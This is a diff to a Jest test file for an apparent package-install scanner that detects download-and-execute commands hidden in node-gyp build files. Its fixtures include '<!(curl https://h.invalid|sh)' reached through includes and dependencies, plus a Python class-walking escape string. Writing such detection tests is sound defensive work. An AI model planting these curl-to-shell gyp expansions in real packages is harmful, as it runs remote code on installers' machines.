@@ -1,6 +1,8 @@
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { readGyp } from '../../src/code/gyp.ts';
+import { installSteps } from '../../src/code/install-steps.ts';
+import { noManifest } from '../../src/code/manifest.ts';
 
 describe('gyp files', () => {
   it('are Python literals: comments, single quotes, trailing commas, texts side by side', () => {
@@ -25,6 +27,40 @@ describe('gyp files', () => {
 
   it('show conditions that reach into Python', () => {
     expect(readGyp(`{'conditions':[["().__class__.__bases__[0]", {}]]}`).expressions).toHaveLength(1);
+  });
+
+  it('put in variables, start modules of Python and name what is built first', () => {
+    const facts = readGyp(
+      `{'variables':{'c%':'curl x'},'targets':[{'sources':['<!(<(c) | sh)','<!pymod_do_main(setup a)'],'dependencies':['deps/b.gyp:b']}]}`,
+    );
+    expect(facts.commands).toEqual(['curl x | sh', 'python3 setup.py a']);
+    expect(facts.dependencies).toEqual(['deps/b.gyp']);
+  });
+
+  it.each<[string, string, Readonly<Record<string, string>>]>([
+    ['in the folder a script goes to', 'cd native && node-gyp rebuild', { 'native/binding.gyp': `{'a':'<!(curl https://h.invalid|sh)'}` }],
+    ['in the folder a script names', 'node-gyp rebuild --directory=native', { 'native/binding.gyp': `{'a':'<!(curl https://h.invalid|sh)'}` }],
+    [
+      'taken in by one that is taken in',
+      'node-gyp rebuild',
+      {
+        'binding.gyp': `{'includes':['x/a.gypi']}`,
+        'x/a.gypi': `{'includes':['b.gypi']}`,
+        'x/b.gypi': `{'a':'<!(curl https://h.invalid|sh)'}`,
+      },
+    ],
+    [
+      'built because another needs it',
+      'node-gyp rebuild',
+      { 'binding.gyp': `{'dependencies':['deps/b.gyp:b']}`, 'deps/b.gyp': `{'a':'<!(curl https://h.invalid|sh)'}` },
+    ],
+  ])('are followed: %s', (_, install, files) => {
+    const manifest = { ...noManifest, scripts: new Map([['install', install]]) };
+    const steps = installSteps(manifest, files['binding.gyp'], (path) => files[path], false);
+    const [file] = Object.keys(files).slice(-1);
+    expect(steps.filter(({ facts }) => facts.some(({ doings }) => doings.some(({ kind }) => kind === 'download-execute')))).toEqual([
+      expect.objectContaining({ file }),
+    ]);
   });
 
   it('never fail, whatever the text', () => {
